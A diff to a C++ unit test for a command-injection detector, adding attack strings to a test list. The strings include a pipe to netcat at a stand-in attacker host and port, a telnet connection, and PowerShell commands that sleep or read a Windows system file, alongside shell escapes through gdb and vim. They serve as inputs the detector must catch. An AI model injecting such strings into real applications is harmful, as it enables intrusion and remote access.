@@ -692,6 +692,12 @@ TEST(CmdiTest, PhpStatementsDirectivesAndEscapedCommands) {
 
 TEST(CmdiTest, AdministrationAndDebuggingTools) {
   const std::vector<std::string> attacks = {
+      // A network tool given a host, after a word; PowerShell cmdlets.
+      "x | nc attacker.example 4444",
+      "report.pdf | telnet 10.0.0.5 23",
+      "; Start-Sleep -s 10",
+      "& Get-Content C:\\Windows\\win.ini",
+      "| get-childitem",
       ";gdb -batch -ex \"!id\"",
       ";vim -c \":!id\"",
       "| visudo",
